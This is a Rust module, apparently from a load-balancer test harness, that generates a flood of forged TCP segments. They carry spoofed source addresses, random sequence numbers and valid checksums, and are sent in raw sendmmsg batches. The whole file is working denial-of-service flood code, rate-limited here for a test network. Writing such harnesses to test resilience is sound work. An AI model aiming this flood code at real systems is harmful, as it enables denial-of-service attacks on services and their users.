//! Forged segments without end: what an attacker sends.
//!
//! Each is whole, checksums included, so that nothing but its meaning keeps it out: a source that nobody
//! has, or one that somebody else has, and numbers by chance. Nobody listens to what comes back.

use std::{
    net::SocketAddrV4,
    os::fd::AsRawFd as _,
    ptr::null_mut,
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicU64, Ordering},
    },
    thread::{self, JoinHandle},
    time::Duration,
};

use anyhow::Result;

use crate::{
    host::Host,
    link::Mac,
    segment::{Frame, Segment},
    wire::Wire,
};

/// Frames in one system call.
const BATCH: usize = 64;
/// Between two batches: some fifty thousand segments a second. A flood that takes the whole machine shows what a
/// queue drops, and nothing of the balancer.
const PAUSE: Duration = Duration::from_millis(1);
/// Any odd number: two floods of a kind are alike.
const SEED: u64 = 0x9e37_79b9_7f4a_7c15;

/// What is forged.
#[derive(Clone, Debug)]
pub struct Forgery {
    /// The Ethernet addresses of who sends and who receives.
    pub macs: (Mac, Mac),
    /// The flags of the segments, in turn.
    pub flags: Vec<u8>,
    /// Who seems to send, in turn; none means anybody in the world.
    pub sources: Vec<SocketAddrV4>,
    /// Whom they send to.
    pub target: SocketAddrV4,
}

/// A flood; it ends with its value.
#[derive(Debug)]
pub struct Flood {
    stop: Arc<AtomicBool>,
    sent: Arc<AtomicU64>,
    thread: Option<JoinHandle<()>>,
}

impl Forgery {
    /// Sends by a link of a host as fast as one thread can.
    pub fn start(self, host: &Host, link: &str) -> Result<Flood> {
        let wire = Wire::deaf(host, link)?;
        let (stop, sent) = (Arc::<AtomicBool>::default(), Arc::<AtomicU64>::default());
        let (until, count) = (Arc::clone(&stop), Arc::clone(&sent));
        let thread = thread::spawn(move || {
            let (mut chance, mut turn) = (SEED, 0);
            while !until.load(Ordering::Relaxed) {
                let frames: Vec<_> = (turn..turn + BATCH).map(|turn| self.frame(turn, &mut chance)).collect();
                count.fetch_add(send(&wire, &frames), Ordering::Relaxed);
                turn += BATCH;
                thread::sleep(PAUSE);
            }
        });
        Ok(Flood { stop, sent, thread: Some(thread) })
    }

    fn frame(&self, turn: usize, chance: &mut u64) -> Frame {
        let (numbers, [a, b, c, d, e, f, ..]) = (next(chance), next(chance).to_be_bytes());
        // Any address of 11.0.0.0 to 126.255.255.255: nobody of the test network.
        let anybody = SocketAddrV4::new([11 + a % 116, b, c, d].into(), u16::from_be_bytes([e | 0x80, f]));
        let source = *self.sources.get(turn % self.sources.len().max(1)).unwrap_or(&anybody);
        let flags = self.flags[turn % self.flags.len()];
        let segment = Segment {
            source,
            target: self.target,
            flags,
            sequence: (numbers >> 32) as u32,
            acknowledgment: numbers as u32,
        };
        segment.frame(self.macs.0, self.macs.1)
    }
}

impl Flood {
    /// Segments sent so far.
    pub fn sent(&self) -> u64 {
        self.sent.load(Ordering::Relaxed)
    }

    /// Ends it, and says how many were sent.
    pub fn stop(mut self) -> u64 {
        self.end();
        self.sent()
    }

    fn end(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

impl Drop for Flood {
    fn drop(&mut self) {
        self.end();
    }
}

/// Sends frames in one system call, and says how many went out: a full queue costs an attacker nothing.
fn send(wire: &Wire, frames: &[Frame]) -> u64 {
    let mut pieces: Vec<_> = frames
        .iter()
        .map(|frame| libc::iovec { iov_base: frame.as_ptr().cast_mut().cast(), iov_len: frame.len() })
        .collect();
    let message = |piece: &mut libc::iovec| libc::mmsghdr {
        msg_hdr: libc::msghdr {
            msg_name: null_mut(),
            msg_namelen: 0,
            msg_iov: piece,
            msg_iovlen: 1,
            msg_control: null_mut(),
            msg_controllen: 0,
            msg_flags: 0,
        },
        msg_len: 0,
    };
    let mut messages: Vec<_> = pieces.iter_mut().map(message).collect();
    let count = libc::c_uint::try_from(messages.len()).unwrap_or(0);
    // SAFETY: the kernel reads `count` messages, whose pieces and frames live until it returns; it writes `msg_len` alone.
    let sent = unsafe { libc::sendmmsg(wire.as_raw_fd(), messages.as_mut_ptr(), count, 0) };
    u64::try_from(sent).unwrap_or(0)
}

/// A number by chance: xorshift64.
fn next(chance: &mut u64) -> u64 {
    *chance ^= *chance << 13;
    *chance ^= *chance >> 7;
    *chance ^= *chance << 17;
    *chance
}
